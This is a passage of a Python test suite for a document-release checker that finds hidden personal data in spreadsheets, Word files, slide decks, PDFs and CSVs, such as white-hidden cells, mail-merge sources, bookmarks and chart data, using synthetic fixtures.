    return f"weak ({'/'.join(sorted({f['severity'] for f in hits}))}, expected {expected})"


# ---------------------------------------------------------------------------------------------------
# the line held: each fix, with the same file without the hidden thing

from foibot.release import check_file, clean_copy  # noqa: E402


def _ids(report) -> dict[str, str]:
    return {f.id: f.severity.value for f in report.findings}


def _green(report) -> None:
    assert report.overall.value == "green", [(f.id, f.severity.value, f.message) for f in report.findings]


def test_every_blind2_file_now_meets_the_officers_expectation(tmp_path):
    """The whole probe: every leak caught at the expected severity, every clean file green, every hostile file
    named for what it is (never green, never a traceback)."""
    verdicts = {}
    for path, expected, _why, want in build_all(tmp_path):
        report = json.loads(check_file(path).to_json())
        verdicts[path.name] = classify(expected, report, want)
    wrong = {k: v for k, v in verdicts.items() if v not in ("caught", "ok-clean")}
    assert not wrong, wrong


def test_data_connections_are_amber_naming_server_login_and_paths(tmp_path):
    found = check_file(power_query_connection_xlsx(tmp_path)).by_id("xlsx.connections")
    assert len(found) == 1 and found[0].severity.value == "amber"
    for word in ("AC-SQL02\\HOUSING", "login kpatel", "SELECT tenant_name", "C:\\Users\\kpatel"):
        assert word in found[0].message
    wb = Workbook()
    wb.active.append(["Ward", "Tenancies"])
    wb.save(p := tmp_path / "plain.xlsx")
    assert "xlsx.connections" not in check_file(p).ids


def _ruled(tmp_path: Path, name: str, rule) -> Path:
    wb = Workbook()
    ws = wb.active
    _complaints(ws)
    ws.append(["Total", "", "", "", 0])
    ws.conditional_formatting.add(f"C2:E{ws.max_row}", rule)
    wb.save(p := tmp_path / name)
    return p


def test_a_conditional_format_that_always_hides_is_red_one_that_depends_amber_and_hidden_zeros_nothing(tmp_path):
    from openpyxl.formatting.rule import CellIsRule

    white = Font(color="FFFFFF")
    always = check_file(_ruled(tmp_path, "always.xlsx", FormulaRule(formula=["TRUE"], font=white)))
    assert _ids(always)["xlsx.conditional_hidden"] == "red" and _ids(always)["personal.phone"] == "red"
    sometimes = check_file(_ruled(tmp_path, "gt.xlsx", CellIsRule(operator="greaterThan", formula=["5"], font=white)))
    assert _ids(sometimes)["xlsx.conditional_hidden"] == "amber"
    zeros = check_file(_ruled(tmp_path, "zeros.xlsx", CellIsRule(operator="equal", formula=["0"], font=white)))
    assert "xlsx.conditional_hidden" not in zeros.ids


def test_clean_copy_leaves_out_cells_a_conditional_format_always_hides(tmp_path):
    res = clean_copy(white_rule_xlsx(tmp_path), tmp_path / "out")
    assert any("conditional format" in n for n in res.notes)
    again = check_file(res.paths[0])
    assert "xlsx.conditional_hidden" not in again.ids and "personal.phone" not in again.ids


def test_personal_data_typed_into_a_defined_name_is_found_as_hidden(tmp_path):
    phone = check_file(hidden_name_contact_xlsx(tmp_path)).by_id("personal.phone")
    assert phone and phone[0].severity.value == "red" and "_Contact" in phone[0].message


def test_a_picture_linked_to_an_internal_share_is_amber_and_the_clean_copy_drops_the_path(tmp_path):
    p = linked_image_share_docx(tmp_path)
    link = check_file(p).by_id("ooxml.internal_link")
    assert link and "linked picture" in link[0].message and "ac-fs01" in link[0].message
    res = clean_copy(p, tmp_path / "out")
    _green(check_file(res.paths[0]))
    with zipfile.ZipFile(res.paths[0]) as z:
        assert "ac-fs01" not in z.read(DOC_RELS).decode()


def test_mail_merge_settings_are_amber_and_the_clean_copy_removes_them(tmp_path):
    p = mail_merge_source_docx(tmp_path)
    merge = check_file(p).by_id("docx.mail_merge")
    assert merge and merge[0].severity.value == "amber" and "Tenants in arrears" in merge[0].message
    assert "ooxml.internal_link" not in check_file(p).ids  # one finding for the merge source, not two
    res = clean_copy(p, tmp_path / "out")
    _green(check_file(res.paths[0]))
    with zipfile.ZipFile(res.paths[0]) as z:
        assert b"kpatel" not in z.read("word/settings.xml")


def test_bookmarks_naming_someone_the_pages_do_not_show_are_red(tmp_path):
    assert _ids(check_file(outline_names_pdf(tmp_path)))["pdf.bookmarks"] == "red"
    shown = ["Witness statements", "Statement of Karen Whitlock", "Interview with Mr Darren Cole, 12 Oak Way"]
    (p := tmp_path / "shown.pdf").write_bytes(_print_pdf(shown, ["Statement - Karen Whitlock",
                                                                 "Interview - Mr Darren Cole, 12 Oak Way"]))
    assert _ids(check_file(p))["pdf.bookmarks"] == "info"  # the pages name them too: nothing more is said
    report = check_file(clean_print_to_pdf_pdf(tmp_path))
    _green(report)
    assert _ids(report)["pdf.bookmarks"] == "info"


def test_a_form_field_with_no_widget_on_a_page_is_hidden(tmp_path):
    assert _ids(check_file(unplaced_form_field_pdf(tmp_path)))["pdf.form_fields"] == "red"


def test_a_chart_workbook_holding_only_what_is_drawn_is_green_and_one_with_more_is_red(tmp_path):
    _green(check_file(clean_chart_deck_pptx(tmp_path)))
    chart = check_file(chart_workbook_extra_rows_pptx(tmp_path)).by_id("pptx.chart_data")
    assert chart[0].severity.value == "red" and "does not draw" in chart[0].message
    assert "Gareth" not in chart[0].message  # the examples are masked
    note = check_file(_chart_deck(tmp_path, "note.pptx", DIRECTORATES, [("Source: HR system", None)]))
    assert _ids(note)["pptx.chart_data"] == "amber"  # a stray line beside the data: look, not red
    hint = check_file(_chart_deck(tmp_path, "hint.pptx", DIRECTORATES,
                                  [("To resize chart data range, drag lower right corner of range.", None)]))
    _green(hint)  # PowerPoint's own note beside a new chart's data


def test_a_column_of_service_numbers_is_not_personal_data_but_a_mobile_among_them_is(tmp_path):
    _green(check_file(clean_service_numbers_csv(tmp_path)))
    p = _csv(tmp_path, "duty.csv", "Service,Phone\nSwitchboard,0300 123 4567\nDuty officer,07700 900123\n")
    assert {"personal.heading", "personal.phone"} <= check_file(p).ids
    wb = Workbook()
    ws = wb.active
    for row in (["Service", "Phone"], ["Switchboard", "0300 123 4567"], ["Out of hours", "0800 587 1234"]):
        ws.append(row)
    wb.save(x := tmp_path / "services.xlsx")
    _green(check_file(x))


def test_clean_copies_say_what_they_cannot_do_to_pictures(tmp_path):
    res = clean_copy(cropped_name_pptx(tmp_path), tmp_path / "out")
    assert any("cropped" in n for n in res.notes)


def main() -> None:
    import tempfile

    with tempfile.TemporaryDirectory() as tmp:
        built = build_all(Path(tmp))
        res = run_check([p for p, *_ in built])
        by = {r["name"]: r for r in res["reports"]}
        for p, exp, why, want in built:
            r = by[p.name]
            print(f"{p.name:34} exp={exp:6} got={r['overall']:6} {classify(exp, r, want):30} | {why}")
            if "-v" in sys.argv:
                for f in r["findings"]:
                    print(f"      {f.get('severity')}: {f.get('id')} @ {f.get('location')} :: "
                          f"{str(f.get('message') or f.get('title'))[:130]}")


if __name__ == "__main__":
    main()
